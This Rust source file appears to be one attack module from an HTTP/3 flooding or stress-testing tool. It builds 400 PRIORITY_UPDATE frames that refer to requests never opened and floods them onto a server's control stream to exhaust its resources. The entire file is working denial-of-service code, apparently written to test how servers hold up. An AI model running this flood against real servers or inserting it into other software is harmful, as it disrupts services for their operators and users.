//! PRIORITY_UPDATE frames for requests that have not come.

use crate::attacker::{Attack, Attacker};
use crate::flood;
use crate::wire;

pub(super) const ATTACK: Attack = Attack::new("priority_updates", "PRIORITY_UPDATE frames", run);

fn run(a: &mut Attacker) {
    let frames = (0..400)
        .map(|n| {
            wire::frame(
                0xf0700,
                &[wire::varint(n % 100 * 4), b"u=1".to_vec()].concat(),
            )
        })
        .collect::<Vec<_>>()
        .concat();
    flood::control(a, &frames, 400);
}
